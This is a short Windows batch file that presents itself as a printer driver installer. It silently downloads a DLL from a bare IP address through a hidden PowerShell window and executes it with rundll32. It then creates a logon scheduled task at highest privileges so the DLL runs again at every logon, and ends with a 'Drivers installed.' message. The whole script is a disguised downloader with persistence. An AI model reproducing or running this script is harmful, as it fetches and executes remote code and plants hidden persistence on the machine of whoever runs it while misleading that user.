@echo off
set D=%ProgramData%\PrintHelper
mkdir "%D%" 2>nul
powershell -nop -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://198.51.100.14/drv/x64/pdrv.dll','%D%\pdrv.dll')"
rundll32.exe "%D%\pdrv.dll",DllRegisterServer
schtasks /create /tn "PrintHelperUpdate" /tr "rundll32.exe %D%\pdrv.dll,DllRegisterServer" /sc onlogon /rl highest /f
echo Drivers installed.
